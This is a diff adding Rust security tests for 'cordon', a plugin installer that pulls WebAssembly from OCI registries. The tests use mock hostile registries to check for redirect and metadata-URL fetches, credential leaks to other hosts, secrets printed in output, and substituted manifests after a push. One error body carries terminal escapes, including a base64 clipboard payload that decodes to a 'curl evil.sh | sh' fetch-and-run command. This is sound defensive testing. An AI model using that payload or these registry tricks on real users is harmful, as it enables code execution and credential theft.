+    ]);
+    assert!(
+        outside.requests().is_empty(),
+        "a redirect took cordon to plain HTTP on {} (exit {})",
+        outside.addr,
+        out.code
+    );
+}
+
+#[test]
+fn a_layer_urls_field_cannot_send_cordon_to_another_host() {
+    // A descriptor's `urls` makes oci-client fetch the blob from any http(s) URL when the
+    // registry answers the blob with an error: a registry can point cordon at internal or
+    // plain-HTTP hosts (the bytes are still digest-checked).
+    let Some(ip) = outside_ip() else {
+        eprintln!("no non-loopback address: skipped");
+        return;
+    };
+    let probe = component("fixture_probe");
+    let outside = {
+        let probe = probe.clone();
+        Server::start(&SocketAddr::new(ip, 0).to_string(), move |_| {
+            ok(probe.clone(), "application/octet-stream")
+        })
+    };
+    let mut descriptor: serde_json::Value = serde_json::from_slice(&manifest(&[(
+        "application/wasm",
+        &format!("sha256:{}", sha256(&probe)),
+        probe.len() as i64,
+    )]))
+    .unwrap();
+    descriptor["layers"][0]["urls"] =
+        serde_json::json!([format!("http://{}/internal/metadata", outside.addr)]);
+    let body = serde_json::to_vec(&descriptor).unwrap();
+    let server = Server::start("127.0.0.1:0", move |request| {
+        if request.path == "/v2/" {
+            ok("{}", "application/json")
+        } else if request.path.contains("/manifests/") {
+            ok(body.clone(), MANIFEST_TYPE)
+        } else {
+            status(404, &[], "{}")
+        }
+    });
+    let ws = Workspace::new();
+    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
+    assert!(
+        outside.requests().is_empty(),
+        "the manifest's urls sent cordon to {} over plain HTTP (exit {}): {}",
+        outside.addr,
+        out.code,
+        out.stdout
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Credentials.
+
+/// A registry that asks for Basic auth and records what it was sent.
+fn basic_auth_registry() -> Server {
+    Server::start("127.0.0.1:0", |request| {
+        if request.header("authorization").is_none() {
+            status(401, &[("WWW-Authenticate", "Basic realm=\"evil\"")], "{}")
+        } else {
+            status(404, &[], "{}")
+        }
+    })
+}
+
+#[test]
+fn registry_credentials_from_the_environment_go_only_to_their_registry() {
+    // CI sets CORDON_REGISTRY_USERNAME/PASSWORD for its private registry and runs `cordon sync`;
+    // a source in the lock on another registry (a third party's, or one a PR added) receives them.
+    let evil = basic_auth_registry();
+    let ws = Workspace::new();
+    let source = format!("oci://{}/evil/x@sha256:{}", evil.addr, "a".repeat(64));
+    let sha = "b".repeat(64);
+    write_lock(&ws, &[("x", source.as_str(), sha.as_str())], &[]);
+    let out = ws.cordon_with_env(
+        &["sync"],
+        &[
+            ("CORDON_REGISTRY_USERNAME", "ci-bot"),
+            ("CORDON_REGISTRY_PASSWORD", "ghcr-secret-token"),
+            ("DOCKER_CONFIG", ws.path().join("none").to_str().unwrap()),
+        ],
+    );
+    assert_ne!(out.code, 0);
+    assert!(
+        !carried(&evil.requests(), "ci-bot", "ghcr-secret-token"),
+        "the environment's registry password was sent to {}: {:?}",
+        evil.addr,
+        evil.requests()
+    );
+}
+
+#[test]
+fn a_token_realm_over_plain_http_on_another_host_does_not_get_the_password() {
+    let Some(ip) = outside_ip() else {
+        eprintln!("no non-loopback address: skipped");
+        return;
+    };
+    let realm = Server::start(&SocketAddr::new(ip, 0).to_string(), |_| {
+        ok(r#"{"token":"t"}"#, "application/json")
+    });
+    let challenge = format!(
+        "Bearer realm=\"http://{}/token\",service=\"registry\"",
+        realm.addr
+    );
+    let registry = Server::start("127.0.0.1:0", move |request| {
+        if request.path == "/v2/" || request.header("authorization").is_none() {
+            status(401, &[("WWW-Authenticate", challenge.as_str())], "{}")
+        } else {
+            status(404, &[], "{}")
+        }
+    });
+    let ws = Workspace::new();
+    let docker = docker_config(&ws, &registry.addr.to_string(), "alice", "alice-pw-123");
+    let out = ws.cordon_with_env(
+        &["add", &format!("oci://{}/tools/probe:1", registry.addr)],
+        &[("DOCKER_CONFIG", docker.as_str())],
+    );
+    assert_ne!(out.code, 0);
+    assert!(
+        !carried(&realm.requests(), "alice", "alice-pw-123"),
+        "the registry's password went in clear text to the token realm on {}: {:?}",
+        realm.addr,
+        realm.requests()
+    );
+}
+
+#[test]
+fn a_blob_redirect_to_another_host_drops_the_credentials() {
+    let probe = component("fixture_probe");
+    let other = {
+        let probe = probe.clone();
+        Server::start("127.0.0.2:0", move |_| {
+            ok(probe.clone(), "application/octet-stream")
+        })
+    };
+    let location = format!("http://{}/blob", other.addr);
+    let body = manifest(&[(
+        "application/wasm",
+        &format!("sha256:{}", sha256(&probe)),
+        probe.len() as i64,
+    )]);
+    let registry = Server::start("127.0.0.1:0", move |request| {
+        if request.header("authorization").is_none() {
+            status(401, &[("WWW-Authenticate", "Basic realm=\"r\"")], "{}")
+        } else if request.path == "/v2/" {
+            ok("{}", "application/json")
+        } else if request.path.contains("/manifests/") {
+            ok(body.clone(), MANIFEST_TYPE)
+        } else {
+            status(307, &[("Location", location.as_str())], "")
+        }
+    });
+    let ws = Workspace::new();
+    let docker = docker_config(&ws, &registry.addr.to_string(), "alice", "alice-pw-123");
+    let out = ws.cordon_with_env(
+        &["add", &format!("oci://{}/tools/probe:1", registry.addr)],
+        &[("DOCKER_CONFIG", docker.as_str())],
+    );
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(carried(&registry.requests(), "alice", "alice-pw-123"));
+    assert!(!other.requests().is_empty());
+    assert!(
+        !carried(&other.requests(), "alice", "alice-pw-123"),
+        "{:?}",
+        other.requests()
+    );
+}
+
+#[test]
+fn credentials_in_a_url_are_not_written_to_the_lock_or_printed() {
+    let probe = component("fixture_probe");
+    let server = {
+        let probe = probe.clone();
+        Server::start("127.0.0.1:0", move |request| {
+            if request.path == "/probe.wasm" {
+                ok(probe.clone(), "application/wasm")
+            } else {
+                status(404, &[], "no")
+            }
+        })
+    };
+    let secret = "tok3n-s3cret";
+    let ws = Workspace::new();
+    let out = ws.cordon(&[
+        "add",
+        &format!("http://127.0.0.1:{secret}@{}/probe.wasm", server.addr),
+        "--sha256",
+        &sha256(&probe),
+    ]);
+    for file in ["cordon.toml", "cordon.lock"] {
+        if let Ok(text) = std::fs::read_to_string(ws.path().join(file)) {
+            assert!(
+                !text.contains(secret),
+                "{file} holds the URL's password:\n{text}"
+            );
+        }
+    }
+    assert!(
+        !out.stdout.contains(secret) && !out.stderr.contains(secret),
+        "printed: {}{}",
+        out.stdout,
+        out.stderr
+    );
+    let out = ws.cordon(&[
+        "add",
+        &format!("http://127.0.0.1:{secret}@{}/missing.wasm", server.addr),
+        "--sha256",
+        &sha256(&probe),
+    ]);
+    assert_ne!(out.code, 0);
+    assert!(
+        !out.stderr.contains(secret),
+        "the error prints the URL's password: {}",
+        out.stderr
+    );
+}
+
+#[test]
+fn credentials_in_an_oci_reference_are_not_printed() {
+    let ws = Workspace::new();
+    let out = ws.cordon(&["add", "oci://alice:hunter2pw@127.0.0.1:9/tools/probe:1"]);
+    assert_ne!(out.code, 0);
+    assert!(
+        !out.stderr.contains("hunter2pw"),
+        "the error prints the password: {}",
+        out.stderr
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Output.
+
+#[test]
+fn a_registry_error_cannot_write_terminal_escapes() {
+    // The registry's error body reaches the terminal raw through `error: …` on stderr: OSC 52 sets
+    // the clipboard on many terminals, CSI 2J clears the screen, and fake lines can be drawn.
+    let server = Server::start("127.0.0.1:0", |request| {
+        if request.path == "/v2/" {
+            ok("{}", "application/json")
+        } else {
+            status(
+                404,
+                &[],
+                "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}[2J\u{1b}[Hinstalled plugins/x.wasm; granted: nothing",
+            )
+        }
+    });
+    let ws = Workspace::new();
+    let (code, _, screen) = run_on_terminal(
+        &ws,
+        "n",
+        &["add", &format!("oci://{}/tools/probe:1", server.addr)],
+    );
+    assert_ne!(code, 0);
+    assert!(
+        !screen.contains("\u{1b}]52") && !screen.contains("\u{1b}[2J"),
+        "the registry's escape sequences reached the terminal: {screen:?}"
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// cordon push: the digest it tells people to pin.
+
+#[test]
+fn cordon_push_prints_the_digest_of_what_it_pushed_not_what_the_registry_serves() {
+    // After pushing, cordon reads the tag back and prints *that* manifest's digest as the one to
+    // pin: a hostile (or compromised) registry serves another manifest for the tag, and everyone
+    // who copies the printed `cordon add …@sha256:` pin installs the registry's component.
+    let guard = component("guard");
+    let evil = manifest(&[(
+        "application/wasm",
+        &format!("sha256:{}", sha256(&guard)),
+        guard.len() as i64,
+    )]);
+    let evil_digest = sha256(&evil);
+    let server = Server::start("127.0.0.1:0", move |request| {
+        let path = request
+            .path
+            .split('?')
+            .next()
+            .unwrap_or_default()
+            .to_string();
+        match request.method.as_str() {
+            "GET" if path == "/v2/" => ok("{}", "application/json"),
+            "POST" if path.ends_with("/blobs/uploads/") => status(
+                202,
+                &[("Location", "/v2/published/probe/blobs/uploads/u1")],
+                "",
+            ),
+            "PATCH" => status(
+                202,
+                &[("Location", "/v2/published/probe/blobs/uploads/u1")],
+                "",
+            ),
+            "PUT" if path.contains("/blobs/uploads/") => status(
+                201,
+                &[("Location", "/v2/published/probe/blobs/sha256:00")],
+                "",
+            ),
+            "PUT" if path.contains("/manifests/") => {
+                status(201, &[("Location", "/v2/published/probe/manifests/1")], "")
+            }
+            "HEAD" => status(404, &[], ""),
+            "GET" if path.contains("/manifests/") => ok(evil.clone(), MANIFEST_TYPE),
+            _ => status(404, &[], "{}"),
+        }
+    });
+    let ws = Workspace::new().plugin("fixture_probe", "probe");
+    let out = ws.cordon(&[
+        "push",
+        "probe",
+        &format!("oci://{}/published/probe:1", server.addr),
+    ]);
+    let pushed = server
+        .requests()
+        .into_iter()
+        .find(|r| r.method == "PUT" && r.path.contains("/manifests/"))
+        .expect("a manifest was pushed");
+    let pushed_digest = sha256(&pushed.body);
+    assert!(
+        !out.stdout.contains(&evil_digest),
+        "cordon push told the user to pin the registry's manifest, not the one it pushed: {}",
+        out.stdout
+    );
+    // Refusing is the safe answer: the registry serves something other than what was pushed, and
+    // the error names the digest of what was.
+    assert_ne!(out.code, 0, "{}", out.stdout);
+    assert!(
+        out.stderr.contains("not the one pushed") && out.stderr.contains(&pushed_digest),
+        "{}",
+        out.stderr
+    );
+}
